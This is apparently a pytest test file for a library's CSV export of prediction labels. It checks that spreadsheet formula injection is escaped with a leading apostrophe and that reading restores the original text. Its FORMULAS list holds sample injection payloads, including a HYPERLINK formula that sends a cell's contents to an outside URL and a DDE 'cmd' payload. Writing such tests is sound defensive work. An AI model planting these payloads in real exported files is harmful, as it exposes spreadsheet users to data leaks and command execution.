"""Labels in CSV files: a spreadsheet takes them for text, our reader for what they were, and numbers stay numbers."""

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bayesnb.files._predictions import prediction_file
from bayesnb.files.sources._csv import STARTS, as_read, as_written, line
from bayesnb.files.sources._paths import as_pandas, open_data
from tests.reading import frame_of

FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
            "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
OTHERS = ["'tis", "''", "'", "a=b", "-1", "+3.5", "-1e-7", "'-1", "1;2", 'say "no"', "a\rb", "x'=y"]


def test_formulas_get_an_apostrophe_and_nothing_else_does():
    assert [as_written(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [as_written(text) for text in OTHERS] == OTHERS


@pytest.mark.slow
@given(st.text() | st.text("'=-+@1 \t\rx", max_size=6))
def test_reading_undoes_writing_and_no_formula_is_left(text):
    written = as_written(text)
    assert as_read(written) == text
    assert written[:1] not in (*STARTS, "\t", "\r", " ") or not written or np.isfinite(float(written))


def test_numbers_and_separators():
    assert line([-1, 0.5, -1e-7, np.float64(2.5).item(), True, None]) == "-1,0.5,-1e-07,2.5,True,None\n"
    assert line(["a;b", "a,b", 'a"b', "=a\tb"]) == '"a;b","a,b","a""b","\'=a\tb"\n'


@pytest.mark.parametrize("classes", [FORMULAS, OTHERS, ["a;b;c", "d;e;f"], ["a\tb\tc", "a\rb"]])
def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
    with prediction_file(tmp_path / "out.csv", classes) as write:
        write(np.eye(len(classes)), np.arange(len(classes)))
    data = open_data(str(tmp_path / "out.csv"))
    (batch,) = data.batches(data.names, {"prediction"})
    frame = as_pandas(batch)
    assert frame["prediction"].tolist() == classes
    assert np.trace(frame.iloc[:, 1:].to_numpy(float)) == len(classes)
    text = (tmp_path / "out.csv").read_bytes().decode()
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert {cell for cell in cells if cell.startswith(tuple(STARTS))} <= {"-1", "+3.5", "-1e-7"}


def test_labels_that_are_numbers_stay_numbers(tmp_path):
    with prediction_file(tmp_path / "out.csv", [-1, 1]) as write:
        write(np.eye(2), np.arange(2))
    assert (tmp_path / "out.csv").read_text() == "prediction,p(-1),p(1)\n-1,1,0\n1,0,1\n"
    assert frame_of(tmp_path / "out.csv")["prediction"].tolist() == [-1.0, 1.0]
